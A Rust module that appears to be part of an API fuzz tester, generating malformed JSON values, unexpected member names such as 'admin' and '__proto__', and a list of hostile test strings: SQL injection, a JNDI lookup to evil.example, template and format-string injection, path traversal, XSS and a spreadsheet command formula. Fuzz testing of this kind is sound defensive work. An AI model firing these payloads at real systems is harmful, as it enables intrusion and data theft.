//! Values: of the right type at the ends of what is possible, of other types, and text of all
//! kinds. JSON is made as text, for much of what may be written is no value.

use super::dice::Dice;
use serde_json::{Value, json};
use std::fmt::Write;

/// Rarely more, or little else would fit into a body.
const CHARACTERS_MAX: usize = 40;

/// Longer than any text that is taken.
const LONG: usize = 6_000;

const KINDS: [fn(&mut Dice) -> String; 5] = [number, string, list, object, word];

/// As JSON, in place of a value like this one.
pub(super) fn in_place_of(dice: &mut Dice, value: &Value, ids: &[String]) -> String {
    if !ids.is_empty() && dice.in_hundred(12) {
        return json!(dice.one_of(ids)).to_string();
    }
    if dice.in_hundred(30) {
        return dice.one_of(&KINDS)(dice);
    }
    match value {
        Value::Number(_) => number(dice),
        Value::String(text) => near(dice, text),
        Value::Bool(_) => dice.one_of(&["true", "false"]).to_string(),
        Value::Null => word(dice),
        Value::Array(items) => {
            let count = *dice.one_of(&[0, 1, 2, 3, 10, 101, 500]);
            let of = |item: &Value| vec![item.to_string(); count].join(",");
            format!("[{}]", items.first().map(of).unwrap_or_default())
        }
        Value::Object(_) => object(dice),
    }
}

/// A member that nobody asked for: its name and its value.
pub(super) fn unknown_member(dice: &mut Dice) -> (String, String) {
    const NAMES: [&str; 14] = [
        "admin",
        "role",
        "roles",
        "status",
        "paid",
        "total",
        "tax",
        "price",
        "tenant_id",
        "created_at",
        "version",
        "id",
        "__proto__",
        "constructor",
    ];
    let name = if dice.in_hundred(70) {
        (*dice.one_of(&NAMES)).to_owned()
    } else {
        text(dice)
    };
    (name, dice.one_of(&KINDS)(dice))
}

/// Text of all kinds, as it is.
pub(super) fn text(dice: &mut Dice) -> String {
    const WHOLE: [&str; 30] = [
        "",
        " ",
        "null",
        "undefined",
        "true",
        "0",
        "-1",
        "1e9",
        "NaN",
        "Infinity",
        "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "' OR 1=1 --",
        "'; DROP TABLE events; --",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%s%s%n",
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0",
        "a@b.c",
        "ａ@ｂ.ｃ",
        "\"a b\"@example.com",
        "a@[127.0.0.1]",
        "+254712345678",
        "٠٧١٢٣٤٥٦٧٨",
        "2026-02-30",
        "9999-12-31T23:59:60Z",
        "https://soko.test/a.png",
        "javascript:alert(1)",
    ];
    match dice.below(20) {
        0..8 => (*dice.one_of(&WHOLE)).to_owned(),
        8 => character(dice).to_string().repeat(LONG / 4),
        9 => "a".repeat(dice.below(LONG)),
        _ => {
            let count = dice.below(CHARACTERS_MAX);
            (0..count).map(|_| character(dice)).collect()
        }
    }
}

/// Not a few, so that every class of them comes up.
fn character(dice: &mut Dice) -> char {
    let range = *dice.one_of(&[
        (0x61, 0x7a),
        (0x61, 0x7a),
        (0x30, 0x39),
        (0x20, 0x7e),
        (0x00, 0x1f),
        (0x7f, 0xff),
        (0x300, 0x36f),
        (0x400, 0x4ff),
        (0x590, 0x6ff),
        (0x2000, 0x206f),
        (0xe000, 0xffff),
        (0x1f300, 0x1f9ff),
        (0, 0x0010_ffff),
    ]);
    let (first, last): (usize, usize) = range;
    let code = first + dice.below(last - first + 1);
    u32::try_from(code)
        .ok()
        .and_then(char::from_u32)
        .unwrap_or('\u{fffd}')
}

fn string(dice: &mut Dice) -> String {
    const RAW: [&str; 7] = [
        r#""\ud800""#,
        r#""\udc00\ud800""#,
        r#""\u0000""#,
        r#""\x""#,
        r#""\u12""#,
        "\"a\nb\"",
        "\"unclosed",
    ];
    if dice.in_hundred(8) {
        (*dice.one_of(&RAW)).to_owned()
    } else {
        json!(text(dice)).to_string()
    }
}

/// Text that is almost this.
fn near(dice: &mut Dice, value: &str) -> String {
    let mut characters: Vec<char> = value.chars().collect();
    match dice.below(8) {
        0 => return string(dice),
        1 => return json!(value.to_uppercase()).to_string(),
        2 => return json!(format!(" {value}\t")).to_string(),
        3 => return json!(value.repeat(2 + dice.below(300))).to_string(),
        _ => (),
    }
    for _ in 0..=dice.below(3) {
        let place = dice.below(characters.len() + 1);
        match characters.get_mut(place) {
            Some(at) if dice.in_hundred(60) => *at = character(dice),
            Some(_) => _ = characters.remove(place),
            None => characters.push(character(dice)),
        }
    }
    json!(characters.into_iter().collect::<String>()).to_string()
}

pub(super) fn number(dice: &mut Dice) -> String {
    let sign = *dice.one_of(&["", "", "-"]);
    let near_power = |dice: &mut Dice| {
        let power = 1_i128 << dice.below(66);
        power + [-1, 0, 1][dice.below(3)]
    };
    match dice.below(10) {
        0..4 => format!("{sign}{}", dice.below(1_000)),
        4..7 => format!("{sign}{}", near_power(dice)),
        7 => format!("{sign}{}.{}", dice.below(1_000), dice.below(1_000)),
        8 => format!("{sign}{}e{sign}{}", dice.below(100), dice.below(400)),
        _ => format!("{sign}{}", "9".repeat(1 + dice.below(80))),
    }
}

fn list(dice: &mut Dice) -> String {
    const LISTS: [&str; 6] = ["[]", "[null]", "[[]]", "[1,\"a\"]", "[{}]", "[1,]"];
    if dice.in_hundred(10) {
        format!("{}{}", "[".repeat(200), "]".repeat(200))
    } else {
        (*dice.one_of(&LISTS)).to_owned()
    }
}

fn object(dice: &mut Dice) -> String {
    let mut members = String::new();
    for number in 0..dice.below(4) {
        let comma = if number > 0 { "," } else { "" };
        let (name, value) = (json!(text(dice)), number_or_word(dice));
        let _ = write!(members, "{comma}{name}:{value}");
    }
    format!("{{{members}}}")
}

fn number_or_word(dice: &mut Dice) -> String {
    if dice.in_hundred(50) {
        number(dice)
    } else {
        word(dice)
    }
}

fn word(dice: &mut Dice) -> String {
    (*dice.one_of(&["null", "true", "false", "nul", "NaN", "-"])).to_owned()
}
